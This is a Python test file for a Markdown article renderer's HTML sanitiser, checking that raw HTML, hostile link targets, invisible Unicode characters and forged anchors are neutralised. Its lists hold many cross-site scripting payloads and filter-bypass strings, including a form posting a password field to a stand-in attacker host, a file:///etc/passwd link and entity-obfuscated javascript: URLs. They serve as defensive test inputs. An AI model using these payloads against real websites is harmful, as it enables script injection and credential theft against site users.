"""Mallory writes Markdown: nothing of it runs, loads, or hides."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from articles.citations import Source
from articles.rendering import Rendered, TextTooLarge, render
from articles.rendering.sanitise import TAGS, is_safe_href, sanitise
from articles.tests.engine.cast import codes, ids, rendered, targets, words

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://example.org onclick=alert(1)>x</a>",
    "<p style='position:fixed'>x</p>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=x></object><embed src=x>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div\n onclick=alert(1)\n>x</div>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script><p>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a id=ref-1 name=cite-1 class=overlay>x</a>",
]
HOSTILE_TARGETS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "blob:https://example.org/1",
    "view-source:https://example.org",
    "#overlay",
    "#login",
]
ALLOWED_ATTRIBUTES = {"id", "class", "role", "aria-label", "href", "title", "tabindex", "value", "start", "type"} | {
    "data-refs",
    "align",
    "scope",
}


def assert_harmless(page: Rendered) -> None:
    """Parse what a browser would get, and look at every element."""
    for piece in (page.body_html, page.references_html, page.contents_html):
        if not piece.strip():
            continue
        for element in lxml_html.fragment_fromstring(piece, create_parent="main").iter():
            assert element.tag in TAGS | {"main"}
            assert set(element.attrib) <= ALLOWED_ATTRIBUTES
            href = element.get("href")
            assert href is None or re.match(r"https?://|mailto:|#(s-|ref-|cite-|fn)|/[^/\\]?", href)


@pytest.mark.parametrize("raw", RAW_HTML)
@pytest.mark.parametrize(
    "frame", ["{}", "text {} text", "- {}", "> {}", "# {}", "| a |\n|---|\n| {} |", "*{}*", "[{}](x)"]
)
def test_raw_html_is_shown_as_text(raw: str, frame: str) -> None:
    page = rendered(frame.replace("{}", raw))
    assert_harmless(page)
    assert "<script" not in page.body_html.lower()
    assert "alert(1)" not in raw or "alert(1)" in page.body_html


@pytest.mark.parametrize("target", HOSTILE_TARGETS)
@pytest.mark.parametrize("form", ["[x]({})", "[x](<{}>)", "[x][r]\n\n[r]: {}", "![x]({})", "<{}>", "[![x]({})]({})"])
def test_no_link_leads_where_it_may_not(target: str, form: str) -> None:
    page = rendered(form.replace("{}", target))
    assert_harmless(page)
    assert not re.search(
        r"<img|href=\"(?!#s-)[^\"]*(?:script|data|file|evil|overlay|login)", page.body_html, re.IGNORECASE
    )


@pytest.mark.parametrize(
    "target", ["https://example.org/a?b=c#d", "HTTP://example.org", "mailto:a@b.org", "/articles/x"]
)
def test_honest_links_stay(target: str) -> None:
    assert f'href="{target}"' in rendered(f"[x]({target})").body_html


@pytest.mark.parametrize("href", ["#", "#x", "javascript:x", "https:", "https://a b", "//x", "", "x", "./x", "http:x"])
def test_what_is_no_safe_href(href: str) -> None:
    assert not is_safe_href(href)


def test_pictures_from_elsewhere_are_not_loaded_but_described() -> None:
    body = rendered('![Film with blasts](https://example.org/x.png "t")').body_html
    assert "<img" not in body
    assert "[Image: Film with blasts]" in body


@pytest.mark.parametrize(
    "character",
    ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\ufeff", "\u00ad"],
)
def test_hidden_characters_are_left_out_and_reported(character: str) -> None:
    text = f"Give 5{character}0 mg [@a]."
    assert character not in rendered(text).body_html
    assert "Give 50&nbsp;mg" in rendered(text).body_html
    assert "hidden-characters" in codes(text)


def test_joiners_stay_where_a_script_needs_them() -> None:
    persian = "می\u200cخواهم"
    assert persian in rendered(persian).body_html
    assert codes(persian) == []
    assert "dose" in rendered("do\u200dse").body_html


def test_a_hidden_character_cannot_split_a_key_or_make_one_up() -> None:
    assert rendered("[@a\u200b]").keys == ("a",)


def test_hostile_keys_locators_and_sources_are_escaped() -> None:
    evil = '"><script>alert(1)</script>'
    csl = {
        "title": evil,
        "author": [{"family": evil}],
        "container-title": evil,
        "volume": evil,
        "DOI": f"10.1000/{evil}",
    }
    source = Source("k", {**csl, "URL": "javascript:alert(1)", "PMID": evil}, evil, evil, evil)
    page = render(f'[@k, p. {evil}; @{{x"onclick="y}}]', {"k": source})
    assert_harmless(page)
    assert "javascript" not in page.references_html


def test_an_author_cannot_forge_the_marks_of_the_house() -> None:
    page = rendered('<a id="ref-1" class="overlay">x</a> [x](#ref-1){: #cite-9 .badge onclick=y } [@a]')
    assert ids(page.body_html) == ["cite-1"]
    assert "overlay" not in re.sub(r"&lt;.*?&gt;", "", page.body_html)


def test_tokens_cannot_be_typed() -> None:
    page = rendered("\x02\U000f0000\x03 \x02klzzwxh:0001\x03 \x0242\x03 [@a]")
    assert_harmless(page)
    assert [cluster.printed for cluster in page.clusters] == ["1"]


HEADINGS = ["", "é", "日本語", "---", "../..", '"><b>', "ref-1", "a" * 500, "s-a", "\U0001f600", "A", "a"]


def test_heading_anchors_are_safe_and_unique() -> None:
    page = rendered("".join(f"# {heading}\n\n" for heading in HEADINGS))
    anchors = ids(page.body_html)
    assert len(anchors) == len(set(anchors)) == len(HEADINGS)
    assert all(re.fullmatch(r"s-[\w-]+", anchor) for anchor in anchors)
    assert targets(page.contents_html) == anchors


SIGNS = [
    "[",
    "](",
    ")",
    "![",
    "<",
    ">",
    "`",
    "*",
    "_",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "    ",
    "|",
    "# ",
    "[@a]",
    "[@x, ",
    "]",
]
SIGNS += ["[^1]", "[^1]: ", "&lt;", "&#60;", "&", '"', "'", "\u202e", "\x00", "\x02", "\x03", "*[a]: "]
FRAGMENTS = st.sampled_from([*RAW_HTML, *HOSTILE_TARGETS, *SIGNS])


@given(st.lists(FRAGMENTS, max_size=30).map("".join))
def test_whatever_is_put_together_stays_harmless(text: str) -> None:
    try:
        page = rendered(text)
    except TextTooLarge:
        return
    assert_harmless(page)
    assert sanitise(page.body_html) == page.body_html
    assert "\x02" not in page.body_html
    assert not words(page.body_html).count("\U000f0000")
